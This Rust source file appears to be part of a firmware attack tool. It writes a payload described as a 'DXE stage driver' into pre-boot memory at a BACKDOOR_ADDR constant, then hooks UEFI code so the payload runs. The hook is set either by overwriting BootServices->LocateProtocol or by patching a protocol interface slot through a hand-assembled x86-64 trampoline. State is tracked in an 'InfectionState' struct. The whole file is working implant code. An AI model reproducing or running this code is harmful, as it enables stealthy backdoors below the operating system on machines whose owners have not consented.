//! Hook installer. Prepares the payload image in RAM,
//! optionally synthesizes an x86-64 trampoline, and performs the single
//! atomic pointer swap that arms the hook.

use tracing::info;
use uuid::Uuid;

use crate::addr::{
    valid_dxe, PhysAddr, BACKDOOR_ADDR, DEFAULT_HOOK_SLOT, EFI_BOOT_SERVICES_LOCATE_PROTOCOL_OFFSET,
    EFI_CPU_IO2_PROTOCOL_GUID, EFI_SYSTEM_TABLE_BOOT_SERVICES_OFFSET, STATUS_ADDR, STUB_ADDR,
};
use crate::error::{DiscoveryError, InstallError};
use crate::patcher::prepare_payload;
use crate::protocol::{enum_entries, Visitor, VisitorResult};
use crate::scanner::ProtScanBounds;
use crate::transport::Transport;

/// Two-valued hook method selector.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum HookMethod {
    /// Hooks `BootServices->LocateProtocol`.
    SystemTable,
    /// Hooks a function slot of a chosen protocol's interface.
    Protocol,
}

/// Parameters selecting exactly what the protocol-method installer hooks.
#[derive(Debug, Clone, Copy)]
pub struct ProtocolHookTarget {
    pub guid: Uuid,
    pub slot: u64,
}

impl Default for ProtocolHookTarget {
    fn default() -> Self {
        Self { guid: EFI_CPU_IO2_PROTOCOL_GUID, slot: DEFAULT_HOOK_SLOT }
    }
}

/// Addresses discovered and written during installation (
/// `InfectionState`), kept around for tests and the CLI summary.
#[derive(Debug, Clone, Default)]
pub struct InfectionState {
    pub system_table: Option<PhysAddr>,
    pub boot_services: Option<PhysAddr>,
    pub locate_protocol: Option<PhysAddr>,
    pub protocol_entry: Option<PhysAddr>,
    pub interface_addr: Option<PhysAddr>,
    pub hook_method: Option<HookMethod>,
    pub patch_site: Option<PhysAddr>,
    pub original_value: Option<PhysAddr>,
    pub entry_addr: Option<PhysAddr>,
}

/// The trampoline encodes to 75 bytes with four embedded 64-bit
/// immediates: `patch_val`, `patch_ptr`, `entry_addr`, `patch_val`.
/// `original_source/python/uefi.py`'s literal byte table sums to 75 (1 +
/// 10 + 10 + 3 + 1 + 2 + 2 + 2 + 2 + 4 + 10 + 2 + 4 + 2 + 2 + 2 + 2 + 1 + 1
/// + 10 + 2); the 79-byte figure elsewhere is a documentation error in the
/// summed total, not a different instruction sequence, so the real
/// encoding (and this constant) stays at 75 — see DESIGN.md. Emitted as a
/// byte table with four patch sites at known offsets rather than
/// concatenated raw byte strings.
pub const STUB_LEN: usize = 75;

const IMM_PATCH_VAL_1: usize = 3;
const IMM_PATCH_PTR: usize = 13;
const IMM_ENTRY_ADDR: usize = 39;
const IMM_PATCH_VAL_2: usize = 65;

pub fn build_stub(patch_val: u64, patch_ptr: u64, entry_addr: u64) -> [u8; STUB_LEN] {
    let mut stub = [0u8; STUB_LEN];
    let mut i = 0;

    macro_rules! push {
        ($($b:expr),+ $(,)?) => {
            $( stub[i] = $b; i += 1; )+
        };
    }
    macro_rules! push_imm64 {
        ($v:expr) => {
            stub[i..i + 8].copy_from_slice(&$v.to_le_bytes());
            i += 8;
        };
    }

    push!(0x51); // push rcx
    push!(0x48, 0xb8); // mov rax, imm64
    push_imm64!(patch_val); // offset 3
    push!(0x48, 0xb9); // mov rcx, imm64
    push_imm64!(patch_ptr); // offset 13
    push!(0x48, 0x89, 0x01); // mov [rcx], rax
    push!(0x52); // push rdx
    push!(0x41, 0x50); // push r8
    push!(0x41, 0x51); // push r9
    push!(0x41, 0x52); // push r10
    push!(0x41, 0x53); // push r11
    push!(0x48, 0x83, 0xec, 0x28); // sub rsp, 0x28
    push!(0x48, 0xb8); // mov rax, imm64
    push_imm64!(entry_addr); // offset 39
    push!(0xff, 0xd0); // call rax
    push!(0x48, 0x83, 0xc4, 0x28); // add rsp, 0x28
    push!(0x41, 0x5b); // pop r11
    push!(0x41, 0x5a); // pop r10
    push!(0x41, 0x59); // pop r9
    push!(0x41, 0x58); // pop r8
    push!(0x5a); // pop rdx
    push!(0x59); // pop rcx
    push!(0x48, 0xb8); // mov rax, imm64
    push_imm64!(patch_val); // offset 65
    push!(0xff, 0xe0); // jmp rax

    debug_assert_eq!(i, STUB_LEN);
    stub
}

fn clear_status_cell<T: Transport>(dev: &mut T) -> Result<(), InstallError> {
    dev.write_u64(STATUS_ADDR, 0)?;
    dev.write_u64(STATUS_ADDR + 8, 0)?;
    Ok(())
}

/// Shared steps: patch + write payload, clear status cell.
/// Returns the in-memory entry address the payload will execute from.
fn stage_payload<T: Transport>(
    dev: &mut T,
    payload: &[u8],
    locate_protocol: u64,
    system_table: u64,
) -> Result<PhysAddr, InstallError> {
    let (patched, entry_rva, _conf_rva) = prepare_payload(payload, locate_protocol, system_table)?;
    let entry_addr = BACKDOOR_ADDR + entry_rva as u64;

    info!(size = patched.len(), addr = format_args!("0x{BACKDOOR_ADDR:x}"), "planting DXE stage driver");
    dev.write(BACKDOOR_ADDR, &patched)?;
    clear_status_cell(dev)?;

    Ok(entry_addr)
}

/// Rewrites `BootServices->LocateProtocol` to the payload entry.
/// The payload is responsible for restoring the original and forwarding on
/// first invocation; no trampoline is emitted in this variant.
pub fn install_system_table_hook<T: Transport>(
    dev: &mut T,
    payload: &[u8],
    system_table: Option<PhysAddr>,
) -> Result<InfectionState, InstallError> {
    let mut state = InfectionState { hook_method: Some(HookMethod::SystemTable), ..Default::default() };

    let system_table = match system_table {
        Some(a) => a,
        None => crate::scanner::find_system_table(dev)?,
    };
    if !valid_dxe(system_table) {
        return Err(DiscoveryError::CorruptProtocolDatabase { from: 0, addr: system_table }.into());
    }
    state.system_table = Some(system_table);

    let boot_services = dev.read_u64(system_table + EFI_SYSTEM_TABLE_BOOT_SERVICES_OFFSET)?;
    if !valid_dxe(boot_services) {
        return Err(
            DiscoveryError::CorruptProtocolDatabase { from: system_table, addr: boot_services }.into(),
        );
    }
    state.boot_services = Some(boot_services);

    let locate_protocol = dev.read_u64(boot_services + EFI_BOOT_SERVICES_LOCATE_PROTOCOL_OFFSET)?;
    if !valid_dxe(locate_protocol) {
        return Err(
            DiscoveryError::CorruptProtocolDatabase { from: boot_services, addr: locate_protocol }
                .into(),
        );
    }
    state.locate_protocol = Some(locate_protocol);

    let entry_addr = stage_payload(dev, payload, locate_protocol, system_table)?;
    state.entry_addr = Some(entry_addr);
    state.patch_site = Some(boot_services + EFI_BOOT_SERVICES_LOCATE_PROTOCOL_OFFSET);
    state.original_value = Some(locate_protocol);

    info!(
        from = format_args!("0x{locate_protocol:x}"),
        to = format_args!("0x{entry_addr:x}"),
        "hooking LocateProtocol()"
    );
    // Linearization point: single atomic 8-byte store.
    dev.write_u64(boot_services + EFI_BOOT_SERVICES_LOCATE_PROTOCOL_OFFSET, entry_addr)?;

    Ok(state)
}

/// Hooks a function slot of a chosen protocol's interface via a
/// synthesized trampoline at `STUB_ADDR`.
pub fn install_protocol_hook<T: Transport>(
    dev: &mut T,
    payload: &[u8],
    protocol_entry: Option<PhysAddr>,
    target: ProtocolHookTarget,
    scan_bounds: ProtScanBounds,
) -> Result<InfectionState, InstallError> {
    let mut state = InfectionState { hook_method: Some(HookMethod::Protocol), ..Default::default() };

    let entry_addr_root = match protocol_entry {
        Some(a) => a,
        None => crate::scanner::find_protocol_entry(dev, scan_bounds)?,
    };
    state.protocol_entry = Some(entry_addr_root);

    let visitor = Visitor::FindByGuid { guid: target.guid };
    let interfaces = match enum_entries(dev, entry_addr_root, &visitor)? {
        Some(VisitorResult::Interfaces(list)) => list,
        None => return Err(DiscoveryError::NoMatchingInterface.into()),
    };
    let interface_addr = interfaces[0].interface_addr;
    state.interface_addr = Some(interface_addr);

    let patch_ptr = interface_addr + target.slot * 8;
    let patch_val = dev.read_u64(patch_ptr)?;
    if !valid_dxe(patch_val) {
        return Err(DiscoveryError::CorruptProtocolDatabase { from: patch_ptr, addr: patch_val }.into());
    }
    state.patch_site = Some(patch_ptr);
    state.original_value = Some(patch_val);

    let entry_addr = stage_payload(dev, payload, 0, 0)?;
    state.entry_addr = Some(entry_addr);

    let stub = build_stub(patch_val, patch_ptr, entry_addr);
    info!(addr = format_args!("0x{STUB_ADDR:x}"), len = stub.len(), "writing trampoline");
    dev.write(STUB_ADDR, &stub)?;

    info!(patch_ptr = format_args!("0x{patch_ptr:x}"), stub = format_args!("0x{STUB_ADDR:x}"), "arming hook");
    // Linearization point: single atomic 8-byte store.
    dev.write_u64(patch_ptr, STUB_ADDR)?;

    Ok(state)
}

pub fn install<T: Transport>(
    dev: &mut T,
    method: HookMethod,
    payload: &[u8],
    system_table: Option<PhysAddr>,
    protocol_entry: Option<PhysAddr>,
    target: ProtocolHookTarget,
    scan_bounds: ProtScanBounds,
) -> Result<InfectionState, InstallError> {
    match method {
        HookMethod::SystemTable => {
            info!("using UEFI system table hook injection method");
            install_system_table_hook(dev, payload, system_table)
        }
        HookMethod::Protocol => {
            info!("using DXE protocol hook injection method");
            install_protocol_hook(dev, payload, protocol_entry, target, scan_bounds)
        }
    }
}
